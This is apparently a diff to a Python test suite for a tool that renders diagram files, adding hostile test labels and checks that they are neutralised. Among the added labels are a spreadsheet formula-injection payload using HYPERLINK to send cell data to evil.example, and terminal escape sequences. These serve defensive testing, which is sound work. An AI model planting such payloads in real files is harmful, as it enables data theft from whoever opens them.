@@ -8,6 +8,7 @@ Mermaid text passes a grammar of the subset toc writes, also for hostile
 labels. With TOC_SCREENSHOTS=DIR, the first slide as LibreOffice draws it is
 saved there (docs/rendering.md shows it).
 """
+import glob
 import os
 import re
 import shutil
@@ -190,7 +191,18 @@ HOSTILE = [
     'Slut"] --> x[Hacked', "end", "a --> b", "click n1 call alert(1)", "%%{init: {'theme':'dark'}}%%",
     "<script>alert(1)</script>", "#quot; & #35; &amp;", "`code` | pipe [bracket] {brace} (paren)",
     "linje 1\u2028linje 2", "æøå ÆØÅ 😀 — «citat»", "back\\slash; semi*star_under~tilde$dollar%pct=eq@at",
+    "=HYPERLINK(\"http://evil.example/?d=\"&A2;\"Open\")", "+Tryghed \u001b]0;PWNED\u0007\u001b[2J",
 ]
+
+
+def corpus():
+    """The bad-input corpus, as Tests/lsp/test_robust.py reads it (the
+    fuzzer's own corpus only where it has been run: its first 300 files)."""
+    paths = []
+    for pattern, limit in [("Tests/BadInput/*", None), ("Tests/Regressions/*.ft", None), ("Fuzz/seeds/*", None),
+                           ("Fuzz/corpus/pipeline/*", 300)]:
+        paths += sorted(glob.glob(os.path.join(ROOT, pattern)))[:limit]
+    return paths
 
 
 def test_hostile_labels_stay_inside_their_quotes(folder):
@@ -200,9 +212,14 @@ def test_hostile_labels_stay_inside_their_quotes(folder):
     lines += ["mål m: Mål", "  indikator: I", "    målværdi: 1"]
     theory = os.path.join(folder, "fjendtlig.ft")
     open(theory, "w", encoding="utf-8").write("\n".join(lines) + "\n")
-    corpus = [os.path.join(ROOT, "Tests", "BadInput", name) for name in sorted(os.listdir(os.path.join(ROOT, "Tests", "BadInput")))
-              if name.endswith(".ft")]
-    for path in [theory] + corpus:
+    drawio = ET.parse(render(theory, "drawio", folder))
+    values = [cell.get("value") for cell in drawio.iter("mxCell") if cell.get("vertex") == "1"]
+    assert len(values) == len(HOSTILE) + 2  # the area and the goal too
+    assert not any("\u001b" in value for value in values)
+    deck = Presentation(render(theory, "pptx", folder))
+    texts = [shape.text_frame.text for shape in deck.slides[0].shapes if shape.has_text_frame]
+    assert any("=HYPERLINK" in text for text in texts) and not any("\u001b" in text for text in texts)
+    for path in [theory] + corpus():
         result = subprocess.run([TOC, "render", path, "-o", "-", "--format", "mermaid"], capture_output=True)
         if result.returncode == 2 or not result.stdout:
             continue  # a file that does not parse draws nothing
@@ -210,6 +227,7 @@ def test_hostile_labels_stay_inside_their_quotes(folder):
         check_mermaid(text)
         if path == theory:
             written = [unescape(q) for q in re.findall(r'^    n\d+\["([^"]*)"\]$', text, re.M)]
-            expected = [" ".join(label.replace("\u2028", " ").split()) for label in HOSTILE]
+            # Control characters and line separators become spaces.
+            expected = [" ".join(re.sub(r"[\x00-\x1f\x7f\u2028\u2029]", " ", label).split()) for label in HOSTILE]
             assert [" ".join(w.split()) for w in written] == expected
             assert len(re.findall(r"^  n\d+ (-->|-- \")", text, re.M)) == len(HOSTILE)
